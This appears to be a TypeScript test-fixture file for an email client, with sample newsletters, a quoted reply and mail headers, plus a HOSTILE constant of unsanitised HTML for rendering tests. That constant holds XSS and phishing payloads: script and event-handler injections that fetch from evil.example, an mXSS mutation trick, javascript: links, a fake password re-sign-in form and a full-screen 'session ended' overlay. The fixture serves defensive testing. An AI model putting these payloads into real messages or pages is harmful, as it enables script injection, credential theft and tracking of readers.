import type { LetterAddress } from '../../../src/domain/letter.ts'
import type { LetterBodyView, LetterView } from '../../../src/domain/views.ts'

/** A newsletter in words. */
export const LINEN = `Spring colours are here

Our linen comes in four new colours, woven in small lots. Have a look at them before the market opens on Saturday.

https://linen-weekly.example/spring`

/** The same as its sender laid it out: a table of fixed width with pictures from elsewhere. */
export const NEWSLETTER = `<table width="640" align="center" cellpadding="0" cellspacing="0" bgcolor="#f4ede4" style="width:640px;background-color:#f4ede4;font-family:Georgia,serif">
<tr><td style="padding:28px 32px 12px;color:#5b4636;font-size:13px;letter-spacing:3px">LINEN WEEKLY</td></tr>
<tr><td style="padding:0 32px"><img data-remote-image="0" width="576" height="220" alt="Four bolts of linen" style="display:block;background:#e6d9c8"></td></tr>
<tr><td style="padding:24px 32px 8px;color:#2f241c;font-size:28px;line-height:34px">Spring colours are here</td></tr>
<tr><td style="padding:0 32px 20px;color:#5b4636;font-size:16px;line-height:26px">Our linen comes in <b>four new colours</b>, woven in small lots. Have a look at them before the market opens on Saturday.</td></tr>
<tr><td style="padding:0 32px 32px"><a href="https://linen-weekly.example/spring" style="display:inline-block;padding:12px 22px;background:#8a5a3c;color:#ffffff;text-decoration:none;font-size:15px">See the colours</a></td></tr>
<tr><td style="padding:14px 32px;background:#e6d9c8;color:#5b4636;font-size:12px">You get this because you asked for it. <a href="https://linen-weekly.example/leave" style="color:#5b4636">Unsubscribe</a><img data-remote-image="1" width="1" height="1" alt=""></td></tr>
</table>`

/** An answer over the letter it answers. */
export const QUOTED_REPLY = `<div dir="ltr"><p>It came this morning and is perfect. Bob would like <b>two</b> as well, do you have them in <span style="color:#0b57d0">blue</span>?</p><p>Ada</p></div>
<div class="tributary-quoted"><p>On Monday, Harbour care wrote:</p><blockquote style="margin:0 0 0 8px;border-left:2px solid #ccc;padding-left:8px"><p>Thank you! A new one leaves today.</p><div class="tributary-quoted"><p>Older still.</p></div></blockquote></div>`

/** A letter with a picture of its own in the middle. */
export const SEAM = (id: string): string =>
  `<p>Here it is:</p><p><img src="/api/v1/attachments/${id}?inline=1" width="320" height="200" alt="The torn seam"></p><p>and the bill as well.</p>`

/** All that a server's sanitiser should have taken out, as if it had let everything pass. */
export const HOSTILE = `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<style>@import url(https://evil.example/import.css); body{background:url(https://evil.example/bg.png)} a{position:fixed;inset:0}</style>
<link rel="stylesheet" href="https://evil.example/style.css">
<script>window.top.__hacked = 'script'; fetch('https://evil.example/script')</script>
<img src="x" onerror="window.top.__hacked='onerror';fetch('https://evil.example/onerror')">
<img src="https://evil.example/direct.png" srcset="https://evil.example/set.png 2x"><img data-remote-image="0" src="https://evil.example/remote.png" alt="prize">
<img data-remote-image="../../../../evil" alt="odd">
<svg onload="window.top.__hacked='svg'"><script>window.top.__hacked='svg-script'</script><image href="https://evil.example/svg.png"/><use href="https://evil.example/use.svg#x"/></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.top.__hacked='mxss'&gt;"></table></mtext></math>
<form action="https://evil.example/form"><input name="password" autofocus onfocus="window.top.__hacked='focus'"><button>Sign in again</button></form>
<iframe src="https://evil.example/frame" srcdoc="<script>window.top.__hacked='frame'</script>"></iframe><object data="https://evil.example/object"></object><embed src="https://evil.example/embed">
<div id="overlay" style="position:fixed;inset:0;z-index:99999;background:red url(https://evil.example/overlay.png)">Your session has ended</div>
<div style="background-image:u\\72l(https://evil.example/escaped.png);--x:url(https://evil.example/variable.png);list-style:url('https://evil.example/list.png')">Claim</div>
<table background="https://evil.example/table.png"><tr><td>cell</td></tr></table>
<video src="https://evil.example/video.mp4" poster="https://evil.example/poster.png" autoplay></video><audio src="https://evil.example/audio.mp3" autoplay></audio>
<a href="javascript:window.top.__hacked='link'" id="js">script link</a> <a href="data:text/html,<script>alert(1)</script>">data link</a>
<a href="https://lottery.example/claim" target="_top" ping="https://evil.example/ping">Claim your prize</a> <a href="//evil.example/relative">relative</a>
<details open ontoggle="window.top.__hacked='toggle'"><summary>more</summary></details>
<div class="tributary-quoted"><img src="https://evil.example/quoted.png" onload="window.top.__hacked='quoted'"></div>`

const named = (people: readonly LetterAddress[]): string =>
  people.map(({ address, name }) => (name ? `${name} <${address}>` : address)).join(', ')

/** Headers as they come with a letter. */
export const HEADERS = ({ from, to, cc, subject }: LetterView): LetterBodyView['headers'] => [
  {
    name: 'Received',
    value: 'from mx1.example ([192.0.2.7]) by mx.harbour.example with ESMTPS; Mon, 2 Mar 2026 09:14:02 +0100',
  },
  {
    name: 'Authentication-Results',
    value: 'mx.harbour.example; spf=pass; dkim=pass header.d=example; dmarc=pass',
  },
  { name: 'From', value: named([from]) },
  { name: 'To', value: named(to) },
  ...(cc.length > 0 ? [{ name: 'Cc', value: named(cc) }] : []),
  { name: 'Subject', value: subject ?? '' },
  { name: 'Message-ID', value: `<${'k7w2m4x6'.repeat(4)}@${from.address.split('@')[1]}>` },
  { name: 'MIME-Version', value: '1.0' },
]
